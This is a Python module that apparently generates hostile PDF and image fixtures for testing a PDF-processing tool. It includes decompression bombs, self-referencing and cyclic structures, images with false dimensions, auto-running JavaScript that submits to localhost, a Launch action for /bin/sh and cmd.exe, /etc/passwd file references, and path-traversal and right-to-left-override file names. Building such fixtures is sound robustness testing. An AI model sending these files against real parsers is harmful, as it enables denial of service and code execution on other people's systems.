"""Hostile documents, each made by code. A name says what the document tries."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping

from pdfbatch.demo.raw import one_page, raw_pdf, stream
from samples import odd

MIB = 2**20
TEXT = odd.lines_at()
FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
PAGES_OF_ONE_BOMB = 20
MANY = 1_000_000


def packed(content: bytes, times: int = 1) -> bytes:
    """A Flate stream of the content, packed so often: each time the filter is named once more."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, f"/Filter[{'/FlateDecode' * times}]")


def endless(size: int, piece: bytes = b" ") -> bytes:
    """A Flate stream of `size` bytes, made without holding them."""
    return stream(deflated(piece * (MIB // len(piece)), size // MIB), "/Filter/FlateDecode")


def deflated(block: bytes, times: int) -> bytes:
    """Packs the block so often, one after the other: what it packs to is repeated, which saves nearly all the work."""
    press = zlib.compressobj(9)
    first, again = (press.compress(block) + press.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    check = 1
    for _ in range(times):
        check = zlib.adler32(block, check)
    last_and_empty = b"\3\0"
    return first + again * (times - 1) + last_and_empty + struct.pack(">I", check)


def document(*pages: str, more: tuple[str | bytes, ...] = ()) -> bytes:
    """A document with these page dictionaries; object 3 is the first, and `more` follows them."""
    kids = " ".join(f"{number + 3} 0 R" for number in range(len(pages)))
    tree = f"<</Type/Pages/Kids[{kids}]/Count {len(pages)}>>"
    return raw_pdf("<</Type/Catalog/Pages 2 0 R>>", tree, *pages, *more)


def with_catalog(entries: str, *more: str | bytes, page: str = "") -> bytes:
    """One page of text, and a catalog with these entries; `more` are objects from 6 on."""
    return raw_pdf(
        f"<</Type/Catalog/Pages 2 0 R{entries}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE[:-2] + page + ">>",
        stream(TEXT),
        FONT,
        *more,
    )


# ── inflating ────────────────────────────────────────────────────────────────────────────────────────────────────


def deflate_bomb() -> bytes:
    """600 MiB of drawing instructions in 600 kB."""
    return one_page(TEXT, contents="[4 0 R 6 0 R]", more=(endless(600 * MIB),))


def nested_deflate_bomb() -> bytes:
    """300 MiB in a few kilobytes, packed twice."""
    twice = stream(zlib.compress(deflated(b" " * MIB, 300), 9), "/Filter[/FlateDecode/FlateDecode]")
    return one_page(TEXT, contents="[4 0 R 6 0 R]", more=(twice,))


def a_bomb_shared_by_many_pages() -> bytes:
    """Every page draws one path that takes a minute, hidden behind text operators that no count of bytes sees."""
    numbers = range(PAGES_OF_ONE_BOMB)
    bomb = 3 + PAGES_OF_ONE_BOMB
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents {bomb} 0 R/Resources<<>>>>"
    return document(*(page for _ in numbers), more=(endless(300 * MIB, b"q Q "),))


def picture_bomb() -> bytes:
    """A picture that truly has 30,000 x 30,000 pixels, in 900 kB."""
    data = endless(30_000 * 30_000 // MIB * MIB + MIB, b"\xff")
    picture = data.replace(
        b"<<", b"<</Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceGray/BitsPerComponent 8", 1
    )
    return one_page("595 0 0 842 0 0 cm /I Do", resources="/XObject<</I 6 0 R>>", more=(picture,))


def object_stream_bomb() -> bytes:
    """An object stream of 300 MiB."""
    holder = endless(300 * MIB).replace(b"<<", b"<</Type/ObjStm/N 100000/First 1000000", 1)
    return one_page(TEXT, more=(holder,))


# ── nesting ──────────────────────────────────────────────────────────────────────────────────────────────────────


def page_tree_cycle() -> bytes:
    return raw_pdf(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 2/Kids[2 0 R 2 0 R]>>", PAGE, stream(TEXT), FONT
    )


def page_tree_of_two_that_hold_each_other() -> bytes:
    return raw_pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Count 3/Kids[3 0 R]>>",
        "<</Type/Pages/Count 3/Parent 2 0 R/Kids[2 0 R]>>",
        stream(TEXT),
        FONT,
    )


def page_that_is_its_own_parent() -> bytes:
    page = PAGE.replace("/Parent 2 0 R", "/Parent 3 0 R").replace("/MediaBox[0 0 595 842]", "")
    return raw_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream(TEXT), FONT)


def form_that_draws_itself() -> bytes:
    form = stream("/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>")
    return one_page(TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=(form,))


def forms_that_double() -> bytes:
    """Forty forms that each draw the next one twice: 2 to the 40th drawings."""
    forms = [
        stream(
            "/X Do /X Do",
            f"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X {number + 1} 0 R>>>>",
        )
        for number in range(6, 46)
    ]
    last = stream("0 0 1 1 re f", "/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return one_page(TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=(*forms, last))


def arrays_in_arrays() -> bytes:
    depth = 100_000
    return one_page(TEXT, page=f"/Deep {'[' * depth}{']' * depth}")


def arrays_in_arrays_of_the_drawing() -> bytes:
    depth = 300_000
    return one_page(TEXT + "[" * depth + "]" * depth + " TJ")


def object_stream_that_holds_itself() -> bytes:
    """An object stream whose dictionary names itself as the one it extends, with a cross-reference stream to itself."""
    body = b"%PDF-1.7\n"
    offsets = {}
    for number, data in (
        (1, b"<</Type/Catalog/Pages 2 0 R>>"),
        (3, PAGE.encode()),
        (4, stream(TEXT)),
        (5, FONT.encode()),
        (6, stream(b"2 0 6 3 <</Type/Pages/Kids[3 0 R]/Count 1>> null", "/Type/ObjStm/N 2/First 8/Extends 6 0 R")),
    ):
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    rows = b"\0" * 4
    start = len(body)
    for number in range(1, 8):
        kind, where = (2, 6) if number in (2, 6) else (1, offsets.get(number, start))
        rows += struct.pack(">BHB", kind, where, 0)
    table = stream(rows, "/Type/XRef/W[1 2 1]/Size 8/Root 1 0 R/Prev " + str(start))
    return body + b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def outline_that_never_ends() -> bytes:
    return with_catalog(
        "/Outlines 6 0 R",
        "<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
        "<</Title(again)/Parent 6 0 R/Next 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>",
    )


def name_tree_that_never_ends() -> bytes:
    return with_catalog("/Names<</EmbeddedFiles 6 0 R>>", "<</Kids[6 0 R 6 0 R]>>")


def font_that_draws_itself() -> bytes:
    glyph = stream("1000 0 0 0 750 750 d1 BT /T 12 Tf (A) Tj ET")
    font = (
        "<</Type/Font/Subtype/Type3/FontBBox[0 0 750 750]/FontMatrix[.001 0 0 .001 0 0]/CharProcs<</A 7 0 R>>"
        "/Encoding<</Type/Encoding/Differences[65/A]>>/FirstChar 65/LastChar 65/Widths[1000]"
        "/Resources<</Font<</T 6 0 R>>>>>>"
    )
    return one_page(TEXT + " BT /T 12 Tf 50 50 Td (A) Tj ET", fonts="/T 6 0 R", more=(font, glyph))


def pattern_that_paints_itself() -> bytes:
    pattern = stream(
        "/Pattern cs /P scn 0 0 10 10 re f",
        "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 10 10]/XStep 10/YStep 10"
        "/Resources<</Pattern<</P 6 0 R>>>>",
    )
    return one_page(TEXT + " /Pattern cs /P scn 0 0 500 500 re f", resources="/Pattern<</P 6 0 R>>", more=(pattern,))


def length_that_refers_to_itself() -> bytes:
    return one_page(TEXT, contents="[4 0 R 6 0 R]", more=("<</Length 6 0 R>>stream\nBT ET\nendstream",))


# ── acting and calling home ──────────────────────────────────────────────────────────────────────────────────────

PORT = 48_129
ADDRESS = f"http://127.0.0.1:{PORT}/owned"


def javascript() -> bytes:
    script = "(while (true) { app.alert('x'); this.submitForm('http://127.0.0.1:48129/') })"
    return with_catalog(
        "/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 6 0 R]>>>>",
        f"<</S/JavaScript/JS {script}>>",
        page="/AA<</O 6 0 R/C 6 0 R>>",
    )


def launch_action() -> bytes:
    return with_catalog("/OpenAction 6 0 R", "<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c owned)>>>>")


def remote_go_to() -> bytes:
    link = f"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/GoToR/F<</FS/URL/F({ADDRESS})>>/D[0/Fit]>>>>"
    return with_catalog("/OpenAction 7 0 R", link, f"<</S/URI/URI({ADDRESS})>>", page="/Annots[6 0 R]")


def links_of_bad_schemes() -> bytes:
    bad = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:x")
    written = [address.replace("(", r"\(").replace(")", r"\)") for address in bad]
    links = [f"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI({each})>>>>" for each in written]
    return with_catalog("", *links, page=f"/Annots[{' '.join(f'{6 + n} 0 R' for n in range(len(bad)))}]")


def content_in_an_outside_file() -> bytes:
    """A picture and a form whose data are in another file (external streams)."""
    spec = "/F<</Type/Filespec/F(/etc/passwd)/UF(/etc/passwd)>>"
    image = stream(b"", f"/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8{spec}")
    form = stream(b"", f"/Type/XObject/Subtype/Form/BBox[0 0 595 842]{spec}")
    return one_page(TEXT + " /I Do /X Do", resources="/XObject<</I 6 0 R/X 7 0 R>>", more=(image, form))


def reference_to_another_document() -> bytes:
    """A form that stands for a page of another document (reference XObject)."""
    form = stream("", "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Ref<</F<</FS/URL/F(" + ADDRESS + ")>>/Page 0>>")
    return one_page(TEXT + " /X Do", resources="/XObject<</X 6 0 R>>", more=(form,))


def embedded_files() -> bytes:
    names = "".join(f"(f{n})<</Type/Filespec/F(..\\\\..\\\\owned{n}.exe)/EF<</F 6 0 R>>>>" for n in range(1000))
    return with_catalog(f"/Names<</EmbeddedFiles<</Names[{names}]>>>>", stream(b"MZ" * 100, "/Type/EmbeddedFile"))


def embedded_name_that_steers() -> bytes:
    name = "<FEFF" + "\u202egpj.fdp\x1b[2J.pdf".encode("utf-16-be").hex() + ">"
    files = f"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F{name}/UF{name}/EF<</F 6 0 R>>>>]>>>>"
    return with_catalog(files, stream(b"%PDF-1.4", "/Type/EmbeddedFile"))


# ── very many and very large ─────────────────────────────────────────────────────────────────────────────────────


def a_million_objects() -> bytes:
    return one_page(TEXT, more=("null",) * MANY)


def a_million_paths() -> bytes:
    return one_page(TEXT, contents="[4 0 R 6 0 R]", more=(packed(b"1 1 m 2 2 l S\n" * MANY),))


def many_annotations() -> bytes:
    note = "<</Type/Annot/Subtype/Square/Rect[1 1 9 9]>>"
    return one_page(TEXT, page=f"/Annots[{note * 100_000}]")


def a_page_of_200_inches() -> bytes:
    return one_page(TEXT, box="0 0 14400 14400")


def a_page_of_miles() -> bytes:
    return one_page(TEXT, box="0 0 14400 14400", page="/UserUnit 75000")


def a_page_without_an_end() -> bytes:
    return one_page(TEXT, box="-1e30 -1e30 1e30 1e30")


def a_page_inside_out() -> bytes:
    return one_page(TEXT, box="595 842 0 0")


def very_many_letters() -> bytes:
    return one_page("BT /F 1 Tf " + "(abcdefghij) Tj " * 30_000 + "ET")


# ── pictures that lie ────────────────────────────────────────────────────────────────────────────────────────────

SIDE = 60_000


def _picture(data: bytes, name: str, extra: str = "") -> bytes:
    picture = stream(
        data,
        f"/Type/XObject/Subtype/Image/Width {SIDE}/Height {SIDE}/ColorSpace/DeviceGray/BitsPerComponent 8"
        f"/Filter/{name}{extra}",
    )
    return one_page("595 0 0 842 0 0 cm /I Do", resources="/XObject<</I 6 0 R>>", more=(picture,))


def _small_jpeg(side: int = SIDE) -> bytes:
    """The head of a JPEG that claims this side, with a few bytes of data."""
    frame = struct.pack(">BHHB", 8, side, side, 3) + b"\1\x22\0\2\x11\1\3\x11\1"
    table = b"\0" + b"\x10" * 64
    scan = b"\3\1\0\2\x11\3\x11\0\x3f\0"
    parts = ((0xDB, table), (0xC0, frame), (0xDA, scan))
    return (
        b"\xff\xd8"
        + b"".join(struct.pack(">BBH", 0xFF, kind, len(data) + 2) + data for kind, data in parts)
        + b"\0" * 64
    )


def jpeg_in_a_page_that_lies() -> bytes:
    return _picture(_small_jpeg(), "DCTDecode")


def jbig2_that_lies() -> bytes:
    page_info = struct.pack(">IBBI", 0, 0x30, 1, 19) + struct.pack(">IIIIBH", SIDE, SIDE, 0, 0, 0, 0)
    region = struct.pack(">IBBI", 1, 0x26, 1, 26) + struct.pack(">IIIIB", SIDE, SIDE, 0, 0, 0) + b"\0" * 9
    return _picture(page_info + region, "JBIG2Decode").replace(b"/BitsPerComponent 8", b"/BitsPerComponent 1")


def jpx_that_lies() -> bytes:
    size = struct.pack(">HIIIIIIIIH", 0, SIDE, SIDE, 0, 0, SIDE, SIDE, 0, 0, 1) + b"\7\1\1"
    codestream = b"\xff\x4f\xff\x51" + struct.pack(">H", len(size) + 2) + size + b"\xff\xd9"
    return _picture(codestream, "JPXDecode").replace(f"/Width {SIDE}/Height {SIDE}".encode(), b"/Width 8/Height 8")


def fax_that_lies() -> bytes:
    return _picture(b"\0" * 64, "CCITTFaxDecode", f"/DecodeParms<</K -1/Columns {SIDE}/Rows {SIDE}>>")


def png_that_lies() -> bytes:
    head = struct.pack(">IIBBBBB", SIDE, SIDE, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + _chunk(b"IEND", b"")
    )


def png_that_inflates() -> bytes:
    ten_rows = b"\0" * (30_000 * 3 + 1) * 10
    data = deflated(ten_rows, 300)
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def jpeg_that_lies() -> bytes:
    return _small_jpeg()


def tiff_that_lies() -> bytes:
    tags = (
        (256, 4, SIDE),
        (257, 4, SIDE),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (278, 4, SIDE),
        (279, 4, 64),
    )
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + struct.pack("<I", 0) + b"\0" * 64


def tiff_that_never_ends() -> bytes:
    """Its only directory names itself as the next one."""
    return tiff_that_lies().replace(struct.pack("<I", 0) + b"\0" * 64, struct.pack("<I", 8) + b"\0" * 64)


PDFS: Mapping[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        deflate_bomb,
        nested_deflate_bomb,
        a_bomb_shared_by_many_pages,
        picture_bomb,
        object_stream_bomb,
        page_tree_cycle,
        page_tree_of_two_that_hold_each_other,
        page_that_is_its_own_parent,
        form_that_draws_itself,
        forms_that_double,
        arrays_in_arrays,
        arrays_in_arrays_of_the_drawing,
        object_stream_that_holds_itself,
        outline_that_never_ends,
        name_tree_that_never_ends,
        font_that_draws_itself,
        pattern_that_paints_itself,
        length_that_refers_to_itself,
        javascript,
        launch_action,
        remote_go_to,
        links_of_bad_schemes,
        content_in_an_outside_file,
        reference_to_another_document,
        embedded_files,
        embedded_name_that_steers,
        a_million_objects,
        a_million_paths,
        many_annotations,
        a_page_of_200_inches,
        a_page_of_miles,
        a_page_without_an_end,
        a_page_inside_out,
        very_many_letters,
        jpeg_in_a_page_that_lies,
        jbig2_that_lies,
        jpx_that_lies,
        fax_that_lies,
    )
}
PICTURES: Mapping[str, Callable[[], bytes]] = {
    "png_that_lies.png": png_that_lies,
    "png_that_inflates.png": png_that_inflates,
    "jpeg_that_lies.jpg": jpeg_that_lies,
    "tiff_that_lies.tif": tiff_that_lies,
    "tiff_that_never_ends.tif": tiff_that_never_ends,
}
